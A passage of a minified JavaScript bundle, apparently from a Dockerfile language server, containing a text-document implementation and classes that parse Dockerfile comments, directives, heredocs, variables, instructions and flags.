x(R){return{items:R}}y.create=x})(Jd||(e.InlineCompletionList=Jd={}));var Xd;(function(y){y.Invoked=1,y.Automatic=2})(Xd||(e.InlineCompletionTriggerKind=Xd={}));var Zd;(function(y){function x(R,k){return{range:R,text:k}}y.create=x})(Zd||(e.SelectedCompletionInfo=Zd={}));var Qd;(function(y){function x(R,k){return{triggerKind:R,selectedCompletionInfo:k}}y.create=x})(Qd||(e.InlineCompletionContext=Qd={}));var ef;(function(y){function x(R){var k=R;return M.objectLiteral(k)&&s.is(k.uri)&&M.string(k.name)}y.is=x})(ef||(e.WorkspaceFolder=ef={})),e.EOL=[`
`,`\r
`,"\r"];var tf;(function(y){function x(N,$,U,ke){return new yk(N,$,U,ke)}y.create=x;function R(N){var $=N;return!!(M.defined($)&&M.string($.uri)&&(M.undefined($.languageId)||M.string($.languageId))&&M.uinteger($.lineCount)&&M.func($.getText)&&M.func($.positionAt)&&M.func($.offsetAt))}y.is=R;function k(N,$){for(var U=N.getText(),ke=b($,function(In,er){var nf=In.range.start.line-er.range.start.line;return nf===0?In.range.start.character-er.range.start.character:nf}),ge=U.length,Ue=ke.length-1;Ue>=0;Ue--){var Ee=ke[Ue],Et=N.offsetAt(Ee.range.start),Q=N.offsetAt(Ee.range.end);if(Q<=ge)U=U.substring(0,Et)+Ee.newText+U.substring(Q,U.length);else throw new Error("Overlapping edit");ge=Et}return U}y.applyEdits=k;function b(N,$){if(N.length<=1)return N;var U=N.length/2|0,ke=N.slice(0,U),ge=N.slice(U);b(ke,$),b(ge,$);for(var Ue=0,Ee=0,Et=0;Ue<ke.length&&Ee<ge.length;){var Q=$(ke[Ue],ge[Ee]);Q<=0?N[Et++]=ke[Ue++]:N[Et++]=ge[Ee++]}for(;Ue<ke.length;)N[Et++]=ke[Ue++];for(;Ee<ge.length;)N[Et++]=ge[Ee++];return N}})(tf||(e.TextDocument=tf={}));var yk=(function(){function y(x,R,k,b){this._uri=x,this._languageId=R,this._version=k,this._content=b,this._lineOffsets=void 0}return Object.defineProperty(y.prototype,"uri",{get:function(){return this._uri},enumerable:!1,configurable:!0}),Object.defineProperty(y.prototype,"languageId",{get:function(){return this._languageId},enumerable:!1,configurable:!0}),Object.defineProperty(y.prototype,"version",{get:function(){return this._version},enumerable:!1,configurable:!0}),y.prototype.getText=function(x){if(x){var R=this.offsetAt(x.start),k=this.offsetAt(x.end);return this._content.substring(R,k)}return this._content},y.prototype.update=function(x,R){this._content=x.text,this._version=R,this._lineOffsets=void 0},y.prototype.getLineOffsets=function(){if(this._lineOffsets===void 0){for(var x=[],R=this._content,k=!0,b=0;b<R.length;b++){k&&(x.push(b),k=!1);var N=R.charAt(b);k=N==="\r"||N===`
`,N==="\r"&&b+1<R.length&&R.charAt(b+1)===`
`&&b++}k&&R.length>0&&x.push(R.length),this._lineOffsets=x}return this._lineOffsets},y.prototype.positionAt=function(x){x=Math.max(Math.min(x,this._content.length),0);var R=this.getLineOffsets(),k=0,b=R.length;if(b===0)return o.create(0,x);for(;k<b;){var N=Math.floor((k+b)/2);R[N]>x?b=N:k=N+1}var $=k-1;return o.create($,x-R[$])},y.prototype.offsetAt=function(x){var R=this.getLineOffsets();if(x.line>=R.length)return this._content.length;if(x.line<0)return 0;var k=R[x.line],b=x.line+1<R.length?R[x.line+1]:this._content.length;return Math.max(Math.min(k+x.character,b),k)},Object.defineProperty(y.prototype,"lineCount",{get:function(){return this.getLineOffsets().length},enumerable:!1,configurable:!0}),y})(),M;(function(y){var x=Object.prototype.toString;function R(Q){return typeof Q<"u"}y.defined=R;function k(Q){return typeof Q>"u"}y.undefined=k;function b(Q){return Q===!0||Q===!1}y.boolean=b;function N(Q){return x.call(Q)==="[object String]"}y.string=N;function $(Q){return x.call(Q)==="[object Number]"}y.number=$;function U(Q,In,er){return x.call(Q)==="[object Number]"&&In<=Q&&Q<=er}y.numberRange=U;function ke(Q){return x.call(Q)==="[object Number]"&&-2147483648<=Q&&Q<=2147483647}y.integer=ke;function ge(Q){return x.call(Q)==="[object Number]"&&0<=Q&&Q<=2147483647}y.uinteger=ge;function Ue(Q){return x.call(Q)==="[object Function]"}y.func=Ue;function Ee(Q){return Q!==null&&typeof Q=="object"}y.objectLiteral=Ee;function Et(Q,In){return Array.isArray(Q)&&Q.every(In)}y.typedArray=Et})(M||(M={}))})});var js=D(cr=>{"use strict";Object.defineProperty(cr,"__esModule",{value:!0});cr.Line=void 0;var uc=class{constructor(e,t){this.document=e,this.range=t}getRange(){return this.range}getTextContent(){return this.document.getText().substring(this.document.offsetAt(this.range.start),this.document.offsetAt(this.range.end))}isAfter(e){return this.range.start.line>e.range.start.line}isBefore(e){return this.range.start.line<e}};cr.Line=uc});var _t=D(lr=>{"use strict";Object.defineProperty(lr,"__esModule",{value:!0});lr.Util=void 0;var pc=class n{static isUTF8BOM(e){let t=Uint8Array.from(Buffer.from(e,"UTF-8"));return t[0]===239&&t[1]==187&&t[2]==191}static isWhitespace(e){return e===" "||e==="	"||n.isNewline(e)}static isNewline(e){return e==="\r"||e===`
`}static findLeadingNonWhitespace(e,t){e:for(let s=0;s<e.length;s++)switch(e.charAt(s)){case" ":case"	":continue;case t:t:for(let i=s+1;i<e.length;i++)switch(e.charAt(i)){case" ":case"	":continue;case"\r":s=i+1;continue e;case`
`:s=i;continue e;default:break t}return-1;default:return s}return-1}static isInsideRange(e,t){return t.start.line===t.end.line?t.start.line===e.line&&t.start.character<=e.character&&e.character<=t.end.character:t.start.line===e.line?t.start.character<=e.character:t.end.line===e.line?e.character<=t.end.character:t.start.line<e.line&&e.line<t.end.line}static parseHeredocName(e){if(e=e.substring(2),e.charAt(0)==="-"&&(e=e.substring(1)),e.charAt(0)==='"'){if(e.charAt(e.length-1)!=='"')return null;e=e.substring(1,e.length-1)}if(e.charAt(0)==="'"){if(e.charAt(e.length-1)!=="'")return null;e=e.substring(1,e.length-1)}return e.charAt(0)==="<"?null:e}};lr.Util=pc});var fc=D(ur=>{"use strict";Object.defineProperty(ur,"__esModule",{value:!0});ur.Comment=void 0;var jk=Je(),qk=js(),gf=_t(),dc=class extends qk.Line{constructor(e,t){super(e,t)}toString(){let e=this.getContent();return e?"# "+e:"#"}getContent(){let e=this.getContentRange();return e===null?"":this.document.getText().substring(this.document.offsetAt(e.start),this.document.offsetAt(e.end))}getContentRange(){let e=this.getRange(),t=this.document.offsetAt(e.start),s=this.document.getText().substring(t,this.document.offsetAt(e.end)),i=-1,r=-1;for(let o=1;o<s.length;o++)if(!gf.Util.isWhitespace(s.charAt(o))){i=o;break}if(i===-1)return null;for(let o=s.length-1;o>=1;o--)if(!gf.Util.isWhitespace(s.charAt(o))){r=o+1;break}return jk.Range.create(this.document.positionAt(t+i),this.document.positionAt(t+r))}};ur.Comment=dc});var yf=D((dr,pr)=>{var Uk=dr&&dr.__spreadArray||function(n,e,t){if(t||arguments.length===2)for(var s=0,i=e.length,r;s<i;s++)(r||!(s in e))&&(r||(r=Array.prototype.slice.call(e,0,s)),r[s]=e[s]);return n.concat(r||Array.prototype.slice.call(e))};(function(n){if(typeof pr=="object"&&typeof pr.exports=="object"){var e=n(require,dr);e!==void 0&&(pr.exports=e)}else typeof define=="function"&&define.amd&&define(["require","exports"],n)})(function(n,e){"use strict";Object.defineProperty(e,"__esModule",{value:!0}),e.TextDocument=void 0;var t=(function(){function l(u,p,d,f){this._uri=u,this._languageId=p,this._version=d,this._content=f,this._lineOffsets=void 0}return Object.defineProperty(l.prototype,"uri",{get:function(){return this._uri},enumerable:!1,configurable:!0}),Object.defineProperty(l.prototype,"languageId",{get:function(){return this._languageId},enumerable:!1,configurable:!0}),Object.defineProperty(l.prototype,"version",{get:function(){return this._version},enumerable:!1,configurable:!0}),l.prototype.getText=function(u){if(u){var p=this.offsetAt(u.start),d=this.offsetAt(u.end);return this._content.substring(p,d)}return this._content},l.prototype.update=function(u,p){for(var d=0,f=u;d<f.length;d++){var h=f[d];if(l.isIncremental(h)){var m=a(h.range),g=this.offsetAt(m.start),w=this.offsetAt(m.end);this._content=this._content.substring(0,g)+h.text+this._content.substring(w,this._content.length);var v=g+h.text.length,O=this._content.charCodeAt(g-1)===13&&this._content.charCodeAt(g)===10,S=this._content.charCodeAt(v-1)===13&&this._content.charCodeAt(v)===10;if(O||S){this._lineOffsets=void 0;continue}var A=Math.max(m.start.line,0),C=Math.max(m.end.line,0),E=this._lineOffsets,_=r(h.text,!1,g);if(C-A===_.length)for(var q=0,me=_.length;q<me;q++)E[q+A+1]=_[q];else _.length<1e4?E.splice.apply(E,Uk([A+1,C-A],_,!1)):this._lineOffsets=E=E.slice(0,A+1).concat(_,E.slice(C+1));var we=h.text.length-(w-g);if(we!==0)for(var q=A+1+_.length,me=E.length;q<me;q++)E[q]=E[q]+we}else if(l.isFull(h))this._content=h.text,this._lineOffsets=void 0;else throw new Error("Unknown change event received")}this._version=p},l.prototype.getLineOffsets=function(){return this._lineOffsets===void 0&&(this._lineOffsets=r(this._content,!0)),this._lineOffsets},l.prototype.positionAt=function(u){u=Math.max(Math.min(u,this._content.length),0);var p=this.getLineOffsets(),d=0,f=p.length;if(f===0)return{line:0,character:u};for(;d<f;){var h=Math.floor((d+f)/2);p[h]>u?f=h:d=h+1}var m=d-1;return u=this.ensureBeforeEOL(u,p[m]),{line:m,character:u-p[m]}},l.prototype.offsetAt=function(u){var p=this.getLineOffsets();if(u.line>=p.length)return this._content.length;if(u.line<0)return 0;var d=p[u.line];if(u.character<=0)return d;var f=u.line+1<p.length?p[u.line+1]:this._content.length,h=Math.min(d+u.character,f);return this.ensureBeforeEOL(h,d)},l.prototype.getLineRange=function(u){var p=this.getLineOffsets();if(u>=p.length){var d=p.length-1;return{start:{line:d,character:0},end:{line:d,character:this._content.length-p[d]}}}else if(u<0)return{start:{line:0,character:0},end:{line:0,character:0}};var f=p[u],h=u+1<p.length?p[u+1]:this._content.length,m=this.ensureBeforeEOL(h,f);return{start:{line:u,character:0},end:{line:u,character:m-f}}},l.prototype.getEOLCharacters=function(u){var p=this.getLineOffsets();if(u>=p.length)return"";if(u<0)return"";var d=u+1<p.length?p[u+1]:this._content.length,f=this.ensureBeforeEOL(d,p[u]);return this._content.substring(f,d)},l.prototype.ensureBeforeEOL=function(u,p){for(;u>p&&o(this._content.charCodeAt(u-1));)u--;return u},Object.defineProperty(l.prototype,"lineCount",{get:function(){return this.getLineOffsets().length},enumerable:!1,configurable:!0}),l.isIncremental=function(u){var p=u;return p!=null&&typeof p.text=="string"&&p.range!==void 0&&(p.rangeLength===void 0||typeof p.rangeLength=="number")},l.isFull=function(u){var p=u;return p!=null&&typeof p.text=="string"&&p.range===void 0&&p.rangeLength===void 0},l})(),s;(function(l){function u(f,h,m,g){return new t(f,h,m,g)}l.create=u;function p(f,h,m){if(f instanceof t)return f.update(h,m),f;throw new Error("TextDocument.update: document must be created by TextDocument.create")}l.update=p;function d(f,h){for(var m=f.getText(),g=i(h.map(c),function(E,_){var q=E.range.start.line-_.range.start.line;return q===0?E.range.start.character-_.range.start.character:q}),w=0,v=[],O=0,S=g;O<S.length;O++){var A=S[O],C=f.offsetAt(A.range.start);if(C<w)throw new Error("Overlapping edit");C>w&&v.push(m.substring(w,C)),A.newText.length&&v.push(A.newText),w=f.offsetAt(A.range.end)}return v.push(m.substr(w)),v.join("")}l.applyEdits=d})(s||(e.TextDocument=s={}));function i(l,u){if(l.length<=1)return l;var p=l.length/2|0,d=l.slice(0,p),f=l.slice(p);i(d,u),i(f,u);for(var h=0,m=0,g=0;h<d.length&&m<f.length;){var w=u(d[h],f[m]);w<=0?l[g++]=d[h++]:l[g++]=f[m++]}for(;h<d.length;)l[g++]=d[h++];for(;m<f.length;)l[g++]=f[m++];return l}function r(l,u,p){p===void 0&&(p=0);for(var d=u?[p]:[],f=0;f<l.length;f++){var h=l.charCodeAt(f);o(h)&&(h===13&&f+1<l.length&&l.charCodeAt(f+1)===10&&f++,d.push(p+f+1))}return d}function o(l){return l===13||l===10}function a(l){var u=l.start,p=l.end;return u.line>p.line||u.line===p.line&&u.character>p.character?{start:p,end:u}:l}function c(l){var u=a(l.range);return u!==l.range?{newText:l.newText,range:u}:l}})});var mc=D(fr=>{"use strict";Object.defineProperty(fr,"__esModule",{value:!0});fr.ParserDirective=void 0;var Hk=bn(),Yk=js(),hc=class extends Yk.Line{constructor(e,t,s,i){super(e,t),this.nameRange=s,this.valueRange=i}toString(){return"# "+this.getName()+"="+this.getValue()}getNameRange(){return this.nameRange}getValueRange(){return this.valueRange}getName(){return this.document.getText().substring(this.document.offsetAt(this.nameRange.start),this.document.offsetAt(this.nameRange.end))}getValue(){return this.document.getText().substring(this.document.offsetAt(this.valueRange.start),this.document.offsetAt(this.valueRange.end))}getDirective(){let e=Hk.Directive[this.getName().toLowerCase()];return e===void 0?null:e}};fr.ParserDirective=hc});var yc=D(hr=>{"use strict";Object.defineProperty(hr,"__esModule",{value:!0});hr.Heredoc=void 0;var gc=class{constructor(e,t,s,i,r){this.startRange=e,this.name=t,this.nameRange=s,this.contentRange=i,this.endRange=r}getName(){return this.name}getStartRange(){return this.startRange}getNameRange(){return this.nameRange}getContentRange(){return this.contentRange}getDelimiterRange(){return this.endRange}};hr.Heredoc=gc});var wc=D(mr=>{"use strict";Object.defineProperty(mr,"__esModule",{value:!0});mr.Variable=void 0;var bc=class{constructor(e,t,s,i,r,o,a,c,l,u){this.name=e,this.nameRange=t,this.range=s,this.modifier=i,this.modifierRange=r,this.substitutionParameter=o,this.substitutionRange=a,this.defined=c,this.buildVariable=l,this.stringValue=u}toString(){return this.stringValue}getName(){return this.name}getNameRange(){return this.nameRange}getRange(){return this.range}getModifier(){return this.modifier}getModifierRange(){return this.modifierRange}getSubstitutionParameter(){return this.substitutionParameter}getSubstitutionRange(){return this.substitutionRange}isDefined(){return this.defined}isBuildVariable(){return this.buildVariable===!0}isEnvironmentVariable(){return this.buildVariable===!1}};mr.Variable=bc});var $t=D(yr=>{"use strict";Object.defineProperty(yr,"__esModule",{value:!0});yr.Instruction=void 0;var J=Je(),qs=_t(),Wk=js(),wn=zn(),gr=yc(),Us=wc(),Bk=bn(),vc=class extends Wk.Line{constructor(e,t,s,i,r,o){super(e,t),this.dockerfile=s,this.escapeChar=i,this.instruction=r,this.instructionRange=o}toString(){let e=this.getKeyword();for(let t of this.getRawArguments())e+=" ",e+=t.getValue();return e}getRangeContent(e){return e===null?null:this.document.getText().substring(this.document.offsetAt(e.start),this.document.offsetAt(e.end))}getInstructionRange(){return this.instructionRange}getInstruction(){return this.instruction}getKeyword(){return this.getInstruction().toUpperCase()}getArgumentsRange(){let e=this.getArguments();return e.length===0?null:J.Range.create(e[0].getRange().start,e[e.length-1].getRange().end)}getArgumentsRanges(){let e=this.getArguments();if(e.length===0)return[];if(e[0].getRange().start.line===e[e.length-1].getRange().end.line)return[J.Range.create(e[0].getRange().start,e[e.length-1].getRange().end)];let t=[],s=-1,i=e[0].getRange().start,r=this.getInstructionRange(),o=this.document.offsetAt(i)-this.document.offsetAt(r.start),c=this.getTextContent().substring(o,this.document.offsetAt(e[e.length-1].getRange().end)-this.document.offsetAt(r.start)),l=this.document.offsetAt(r.start)+o,u=!1,p=!1;for(let d=0;d<c.length;d++){let f=c.charAt(d);if(f===this.escapeChar){let h=c.charAt(d+1);if(h===" "||h==="	")e:for(let m=d+2;m<c.length;m++)switch(c.charAt(m)){case" ":case"	":continue;case"\r":m++;case`
`:i!==null&&t.push(J.Range.create(i,this.document.positionAt(l+s+1))),i=null,u=!0,p=!1,d=m;break e;default:break e}else h==="\r"?(i!==null&&(t.push(J.Range.create(i,this.document.positionAt(l+s+1))),i=null),u=!0,p=!1,d+=2):(h===`
`&&(i!==null&&t.push(J.Range.create(i,this.document.positionAt(l+s+1))),i=null,u=!0,p=!1),d++)}else if(qs.Util.isNewline(f))p&&(i=null,u=!0,p=!1);else if(!p){if(i===null){if(f==="#"){p=!0;continue}let h=this.document.positionAt(l+d);h.character!==0&&(i=J.Position.create(h.line,0))}s=d}}return i===null?t.push(J.Range.create(this.document.positionAt(l+s),this.document.positionAt(l+s+1))):t.push(J.Range.create(i,this.document.positionAt(l+s+1))),t}getRawArgumentsContent(){let e=this.getArguments();return e.length===0?null:this.getRangeContent(J.Range.create(e[0].getRange().start,e[e.length-1].getRange().end))}getArgumentsContent(){if(this.getArguments().length===0)return null;let t="",s=this.getArgumentsRanges(),i=this.document.getText();for(let r of s)t+=i.substring(this.document.offsetAt(r.start),this.document.offsetAt(r.end));return t}getArguments(){return this.getRawArguments()}getRawArguments(){let e=[],t=this.getInstructionRange(),s=this.document.offsetAt(t.end)-this.document.offsetAt(t.start),r=this.getTextContent().substring(s),o=this.document.offsetAt(t.start)+s,a=!1,c=!1,l=-1,u=!1,p=!1,d=-1,f="";for(let h=0;h<r.length;h++){let m=r.charAt(h);if(qs.Util.isWhitespace(m))if(p){u=!0,qs.Util.isNewline(m)&&(u=!1,c&&(c=!1,a=!0));continue}else l!==-1&&(d===-1?e.push(new wn.Argument(f,J.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+h)))):e.push(new wn.Argument(f,J.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d)))),d=-1,f="",l=-1);else if(m===this.escapeChar){let g=r.charAt(h+1);if(g===" "||g==="	")e:for(let w=h+2;w<r.length;w++)switch(r.charAt(w)){case" ":case"	":continue;case"\r":w++;case`
`:c=!1,p=!0,a=!0,l!==-1&&(d=h),h=w;break e;default:d=h,l===-1&&(h=w-1);break e}else if(g==="\r")c=!1,p=!0,a=!0,l!==-1&&d===-1&&(d=h),h+=2;else if(g===`
`)c=!1,p=!0,a=!0,l!==-1&&d===-1&&(d=h),h++;else{if(u&&d!==-1&&(e.push(new wn.Argument(f,J.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d)))),f="",l=-1),d=-1,u=!1,p=!1,g==="$")f=f+m+g;else{if(g==="")break;f=f+g}l===-1&&(l=h),h++}}else c||(a&&m==="#"?c=!0:(u&&d!==-1&&(e.push(new wn.Argument(f,J.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d)))),f="",l=-1),u=!1,p=!1,d=-1,f=f+m,l===-1&&(l=h)),a=!1)}return l!==-1&&(d===-1?e.push(new wn.Argument(f,J.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+r.length)))):e.push(new wn.Argument(f,J.Range.create(this.document.positionAt(o+l),this.document.positionAt(o+d))))),e}getExpandedArguments(){let e=this.getArguments();for(let t=0;t<e.length;t++){let s=e[t].getRange(),i=this.document.offsetAt(s.start),r=this.parseVariables(i,e[t].getValue()),o=[],a=!1;for(let c of r){let l=this.dockerfile.resolveVariable(c.getName(),c.getNameRange().start.line);o.push(l),a=a||l!==void 0}if(a){let c="";for(let u=0;u<o.length;u++){let p=r[u].getRange(),d=this.document.offsetAt(p.start),f=this.document.offsetAt(p.end);o[u]?(c+=this.document.getText().substring(i,d),c+=o[u],i=f):(c+=this.document.getText().substring(i,f),i=f)}let l=this.document.offsetAt(s.end);l!==i&&(c+=this.document.getText().substring(i,l)),e[t]=new wn.Argument(c,s)}}return e}getVariables(){let e=[],t=this.getRawArguments();for(let s of t){let i=s.getRange(),r=this.document.getText().substring(this.document.offsetAt(i.start),this.document.offsetAt(i.end)),o=this.parseVariables(this.document.offsetAt(s.getRange().start),r);for(let a of o)e.push(a)}return e}parseVariables(e,t){let s=[];e:for(let i=0;i<t.length;i++)switch(t.charAt(i)){case this.escapeChar:t.charAt(i+1)==="$"&&i++;break;case"$":if(t.charAt(i+1)==="{"){let r="${",o="",a=-1,c="",l=-1,u=-1,p=-1;t:for(let d=i+2;d<t.length;d++){let f=t.charAt(d);switch(f){case this.escapeChar:for(let O=d+1;O<t.length;O++)switch(t.charAt(O)){case" ":case"	":case"\r":continue;case`
`:d=O;continue t}break;case"}":r+="}";let h=null,m=null,g=p!==-1?c:null,w=null;a===-1?a=d:a+1===d?(h="",m=J.Range.create(this.document.positionAt(e+a+1),this.document.positionAt(e+a+1))):(l===-1?(l=p+1,u=p+1):u=u+1,h=t.substring(p,p+1),m=J.Range.create(this.document.positionAt(e+p),this.document.positionAt(e+p+1)),w=J.Range.create(this.document.positionAt(e+l),this.document.positionAt(e+u)));let v=this.document.positionAt(e+i);s.push(new Us.Variable(o,J.Range.create(this.document.positionAt(e+i+2),this.document.positionAt(e+a)),J.Range.create(v,this.document.positionAt(e+d+1)),h,m,g,w,this.dockerfile.resolveVariable(o,v.line)!==void 0,this.isBuildVariable(o,v.line),r)),i=d;continue e;case":":a===-1?a=d:p!==-1?(l===-1&&(l=d),u=d,c+=":"):p=d,r+=":";break;case`
`:case"\r":case" ":case"	":break;default:a===-1?o+=f:p!==-1?(l===-1&&(l=d),u=d,c+=f):p=d,r+=f;break}}break e}else{if(qs.Util.isWhitespace(t.charAt(i+1))||i===t.length-1)continue;{let r="";t:for(let a=i+1;a<t.length;a++){let c=t.charAt(a);switch(c){case"\r":case`
`:case" ":case"	":continue;case"$":case"'":case'"':let l=this.document.positionAt(e+i);s.push(new Us.Variable(r,J.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+a)),J.Range.create(l,this.document.positionAt(e+a)),null,null,null,null,this.dockerfile.resolveVariable(r,l.line)!==void 0,this.isBuildVariable(r,l.line),"$"+r)),i=a-1;continue e;case this.escapeChar:for(let p=a+1;p<t.length;p++)switch(t.charAt(p)){case" ":case"	":case"\r":continue;case`
`:a=p;continue t}let u=this.document.positionAt(e+i);s.push(new Us.Variable(r,J.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+a)),J.Range.create(u,this.document.positionAt(e+a)),null,null,null,null,this.dockerfile.resolveVariable(r,u.line)!==void 0,this.isBuildVariable(r,u.line),"$"+r));break e}if(c.match(/^[a-z0-9_]+$/i)===null){let l=this.document.positionAt(e+i);s.push(new Us.Variable(r,J.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+a)),J.Range.create(l,this.document.positionAt(e+a)),null,null,null,null,this.dockerfile.resolveVariable(r,l.line)!==void 0,this.isBuildVariable(r,l.line),"$"+r)),i=a-1;continue e}r+=c}let o=this.document.positionAt(e+i);s.push(new Us.Variable(r,J.Range.create(this.document.positionAt(e+i+1),this.document.positionAt(e+t.length)),J.Range.create(o,this.document.positionAt(e+t.length)),null,null,null,null,this.dockerfile.resolveVariable(r,o.line)!==void 0,this.isBuildVariable(r,o.line),"$"+r))}}break e}return s}isBuildVariable(e,t){if(this.getKeyword()===Bk.Keyword.FROM){for(let o of this.dockerfile.getInitialARGs()){let c=o.getProperty();if(c&&e===c.getName())return!0}return}let s=this.dockerfile.getContainingImage(J.Position.create(t,0)),i=s.getENVs();for(let o=i.length-1;o>=0;o--)if(i[o].isBefore(t)){for(let a of i[o].getProperties())if(a.getName()===e)return!1}let r=s.getARGs();for(let o=r.length-1;o>=0;o--)if(r[o].isBefore(t)){let a=r[o].getProperty();if(a&&a.getName()===e)return!0}}createSingleLineHeredocs(e){let t=[];for(let s of e){let i=s.getValue();if(i.startsWith("<<")&&qs.Util.parseHeredocName(i)!==null){let r=s.getRange(),o=this.getNameRange(r),a=this.getName(o);t.push(new gr.Heredoc(r,a,o,null,null))}}return t}getName(e){let t=this.document.getText(e),s=!1,i="";e:for(let r=0;r<t.length;r++){let o=t.charAt(r);switch(o){case this.escapeChar:s=!0;for(let a=r+1;a<t.length;a++)switch(t.charAt(a)){case" ":case"	":break;case"\r":r=a+1;continue e;case`
`:r=a;continue e;default:i+=t.charAt(a),r=a;continue e}break;case"#":if(s){for(let a=r+1;a<t.length;a++)if(t.charAt(a)===`
`){r=a;continue e}}case" ":case"	":case"\r":case`
`:if(s)break;default:i+=o;break}}return i}getNameRange(e){let t=this.document.getText(e),s=!1,i=!1,r=-1,o=-1,a=!1,c=null;e:for(let p=0;p<t.length;p++){let d=t.charAt(p);switch(d){case'"':case"'":if(c===d)break e;c=d;continue;case this.escapeChar:for(let f=p+1;f<t.length;f++)if(t.charAt(f)===`
`){a=!0,f=p;continue e}break;case" ":case"	":case"\r":case`
`:break;case"<":s?i=!0:s=!0;break;case"-":if(i){i=!1;break}case"#":if(a){for(let f=p+1;f<t.length;f++)if(t.charAt(f)===`
`){p=f;continue e}}default:if(r===-1&&(r=p),c!==null){o=p+1;break}break e}}if(r===-1)return J.Range.create(e.end,e.end);let l=this.document.positionAt(this.document.offsetAt(e.start)+r),u=c!==null?this.document.positionAt(this.document.offsetAt(e.start)+o):e.end;return J.Range.create(l,u)}getHeredocs(){let e=this.getArguments();if(e.length===0)return[];let t=[],s=this.getRange();if(s.start.line===s.end.line)return this.createSingleLineHeredocs(e);let i=[],r=!1,o=!1,a=-1,c=-1,l=-1,u=0,p=this.document.offsetAt(e[0].getRange().start),d=this.getRangeContent(J.Range.create(e[0].getRange().start,this.getRange().end));e:for(let f=0;f<d.length;f++)switch(d.charAt(f)){case this.escapeChar:o=!0;for(let h=f+1;h<d.length;h++)switch(d.charAt(h)){case" ":case"	":break;case"\r":h++;case`
`:f=h;continue e;default:f=h;continue e}break;case"\r":break;case`
`:if(o)break;if(r){a===-1&&(a=f),c=f;let h=i[u],m=h.getRange(),g=this.getNameRange(m),w=this.getName(g),v=this.getDelimiterRange(h,w,J.Range.create(this.document.positionAt(p+l),this.document.positionAt(p+f)));if(v!==null){let O=J.Range.create(this.document.positionAt(p+a),this.document.positionAt(p+l-1));t.push(new gr.Heredoc(m,w,g,O,v)),a=-1,u++}l=-1}else{let h=p+f;for(let m of e)if(this.document.offsetAt(m.getRange().start)<h)m.getValue().startsWith("<<")&&i.push(m);else break;r=!0,l=-1;continue e}break;case" ":case"	":if(o)break;case"#":if(o){for(let h=f+1;h<d.length;h++)if(d.charAt(h)===`
`){f=h;continue e}}default:o&&(o=!1),r&&(a===-1&&(a=f),l===-1&&(l=f));break}if(r){let f=i[u],h=f.getRange(),m=this.getNameRange(h),g=this.getName(m),w=null,v=this.getDelimiterRange(f,g,J.Range.create(this.document.positionAt(p+l),s.end));v===null?w=J.Range.create(this.document.positionAt(p+a),s.end):c!==-1&&(w=J.Range.create(this.document.positionAt(p+a),this.document.positionAt(p+c))),t.push(new gr.Heredoc(h,g,m,w,v)),u++;for(let O=u;O<i.length;O++){let A=i[u].getRange(),C=this.getNameRange(A),E=this.getName(C);t.push(new gr.Heredoc(A,E,C,null,null)),u++}}else return this.createSingleLineHeredocs(e);return t}getDelimiterRange(e,t,s){let i=this.document.getText(s);if(e.getValue().startsWith("<<-")){let r=0;for(;i.charAt(r)==="	";)r++;return i.substring(r)===t?J.Range.create(J.Position.create(s.start.line,r),s.end):null}return i===t?s:null}};yr.Instruction=vc});var bf=D(br=>{"use strict";Object.defineProperty(br,"__esModule",{value:!0});br.FlagOption=void 0;var kc=class{constructor(e,t,s,i,r){this.range=e,this.name=t,this.nameRange=s,this.value=i,this.valueRange=r}toString(){return this.valueRange!==null?this.name+"="+this.value:this.name}getRange(){return this.range}getName(){return this.name}getNameRange(){return this.nameRange}getValue(){return this.value}getValueRange(){return this.valueRange}};br.FlagOption=kc});var Oc=D(wr=>{"use strict";Object.defineProperty(wr,"__esModule",{value:!0});wr.Flag=void 0;var xc=Je(),wf=bf(),Rc=class{constructor(e,t,s,i,r,o){if(this.options=[],this.range=t,this.name=s,this.nameRange=i,this.value=r,this.valueRange=o,this.value!==null){let a=e.offsetAt(o.start),c=-1,l=-1,u=!1;for(let p=0;p<r.length;p++)switch(r.charAt(p)){case"=":if(u=!0,l===-1){l=p+1;break}break;case",":this.options.push(this.createFlagOption(e,r,a,c,l,p)),c=-1,l=-1;break;default:c===-1&&(c=p);break}u&&c!==-1&&this.options.push(this.createFlagOption(e,r,a,c,l,r.length))}}createFlagOption(e,t,s,i,r,o){let a=xc.Range.create(e.positionAt(s+i),e.positionAt(s+o));return r===-1?new wf.FlagOption(a,t.substring(i,o),a,null,null):new wf.FlagOption(a,t.substring(i,r-1),xc.Range.create(e.positionAt(s+i),e.positionAt(s+r-1)),t.substring(r,o),xc.Range.create(e.positionAt(s+r),e.positionAt(s+o)))}toString(){return this.valueRange?"--"+this.name+"="+this.value:"--"+this.name}getRange(){return this.range}getName(){return this.name}getNameRange(){return this.nameRange}getValue(){return this.value}getValueRange(){return this.valueRange}getOption(e){for(let t of this.options)if(t.getName()===e)return t;return null}getOptions(){return this.options}hasOptions(){return this.options.length>0}};wr.Flag=Rc});var Ys=D(vr=>{"use strict";Object.defineProperty(vr,"__esModule",{value:!0});vr.ModifiableInstruction=void 0;var Hs=Je(),Sc=Oc(),Gk=$t(),Mc=class extends Gk.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getFlags(){if(!this.flags){this.flags=[];for(let e of this.getArguments()){let t=e.getValue();if(this.stopSearchingForFlags(t))return this.flags;if(t.indexOf("--")===0){let s=e.getRange(),i=this.document.getText().substring(this.document.offsetAt(s.start),this.document.offsetAt(s.end)),r=t.indexOf("="),o=i.indexOf("="),a=!1,c=!1,l=-1;e:for(let p=0;p<i.length;p++)switch(i.charAt(p)){case"\\":case" ":case"	":case"\r":case`
